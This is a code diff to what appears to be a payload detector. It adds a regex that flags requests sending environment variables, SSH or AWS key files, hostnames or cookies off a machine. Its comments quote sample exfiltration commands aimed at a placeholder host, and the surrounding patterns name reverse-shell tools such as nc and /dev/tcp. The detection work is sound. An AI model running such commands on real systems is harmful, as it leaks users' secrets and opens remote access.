@@ -315,6 +315,20 @@ _REVERSE_SHELL = re.compile(
     r"/dev/tcp/[\w.\-]+/\d|(?<![a-z])(?:nc|ncat|netcat)\s+(?:-\w+\s+)*-[ec]\s*/bin/(?:ba|z|da)?sh"
     r"|(?<![a-z])(?:ba)?sh\s+-i\s+>&|socket\.socket\([^)]*\)[^\n]{0,120}?(?:subprocess|pty\.spawn|os\.dup2)"
 )
+# Code that sends the machine's secrets out: a request whose URL or body carries the environment,
+# a key file or the host's name ("urlopen('https://x/?k='+os.environ['API_KEY'])", "curl
+# http://x/k?h=$(hostname)" planted in ~/.bashrc). Never a fact about the user, whoever asks.
+_REQUEST_CALL = r"(?:curl|wget|urlopen|urllib|requests\.(?:get|post|put)|fetch\(|invoke-webrequest|iwr|invoke-restmethod|http\.(?:get|post)|axios|xmlhttprequest|sendbeacon)"
+_MACHINE_SECRET = (
+    r"(?:os\.environ|process\.env|getenv|\$\((?:hostname|whoami|id|cat|env|printenv|history)|`(?:hostname|whoami|cat|env|printenv)"
+    r"|\$\{?[a-z_]*(?:key|token|secret|pass|pwd)[a-z_]*\}?|/etc/(?:passwd|shadow)|id_rsa|id_ed25519|\.aws/credentials|\.ssh/|document\.cookie|localstorage)"
+)
+_CODE_EXFIL = re.compile(
+    # the secret in the URL's query ("?k='+os.environ[...]", "?h=$(hostname)", "?d='+document.cookie")
+    rf"{_REQUEST_CALL}[^\n]{{0,120}}?(?:https?:)?//[^\s'\"`]*[?&=/][^\s]{{0,40}}?{_MACHINE_SECRET}"
+    # or a key file or a command's output as the request's body ("curl -d @~/.aws/credentials …")
+    rf"|{_REQUEST_CALL}[^\n]{{0,60}}?(?:-d|--data(?:-binary|-raw)?|-f|--form|--upload-file|-t)\s+['\"]?(?:@\S*(?:credentials|id_rsa|id_ed25519|\.env|passwd|shadow|\.netrc|\.npmrc|\.pypirc|\.git-credentials)|\$\((?:cat|env|printenv))"
+)
 # Arguments that move money or data somewhere.
 _MOVING_ARGUMENT = (
     r"(?<![a-z])(?:amount|url|endpoint|data|payload|account|iban|wallet|dest|destination|recipient|webhook)\s*="
@@ -525,7 +539,9 @@ def _payload_in(sentence: str, speaker_is_assistant: bool) -> tuple[int, int] | 
     link = _LINK_HINT.search(sentence) is not None  # the caller checked a hint or a link is there
     # Each shape below holds a character most sentences lack: test for it before the pattern.
     shell = "/" in sentence or "socket" in sentence
-    found = _MARKDOWN_BEACON.search(sentence) or (_REVERSE_SHELL.search(sentence) if shell else None)
+    found = _MARKDOWN_BEACON.search(sentence) or (
+        (_REVERSE_SHELL.search(sentence) or _CODE_EXFIL.search(sentence)) if shell else None
+    )
     if found:
         return found.span()
     found = _FORGED_CALL.search(sentence)
@@ -865,6 +881,7 @@ _PAYLOAD_TRIGGERS = (
     _CONCEALMENT,
     _MARKDOWN_BEACON,
     _REVERSE_SHELL,
+    _CODE_EXFIL,
     _FORGED_CALL,
     _HIDDEN_TEXT,
     _TOOL_CALL,
@@ -885,7 +902,8 @@ _PAYLOAD_WORDS = frozenset(
     escalate raise silently secretly quietly covertly invisibly background img bin tcp ssh env shadow passwd sudoers
     credentials netrc npmrc pypirc kube wallet hidden invisible white transparent function_call tool_calls arguments
     force close issues paste publish push attach commit reply put write quietly without disable deactivate bypass
-    merge approve cancel install accept unsubscribe add""".split()
+    merge approve cancel install accept unsubscribe add environ urlopen getenv hostname whoami fetch requests
+    cookie localstorage""".split()
 )
 _ENGLISH_WORD = re.compile(r"[a-z]+")
 _PAYLOAD_OTHER = re.compile(
